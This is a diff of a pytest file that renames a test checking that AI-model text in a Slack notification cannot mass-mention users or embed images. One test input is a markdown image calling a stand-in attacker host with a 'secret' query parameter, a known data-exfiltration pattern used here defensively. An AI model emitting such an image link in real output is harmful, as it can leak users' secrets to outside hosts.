@@ -78,7 +78,7 @@ def test_a_model_cannot_write_commands_of_slack(a_notification):
 @pytest.mark.parametrize(
     "said", ["@channel", "@All", "hey @here!", "@everyone", "![x](https://evil.example/?q=secret)"]
 )
-def test_a_model_calls_nobody_in_other_chats_and_shows_no_picture(a_notification, said):
+def test_a_models_text_cannot_mention_users_or_embed_pictures(a_notification, said):
     text = slack(a_notification("Failed", message=said, summary=said))
 
     assert said not in text
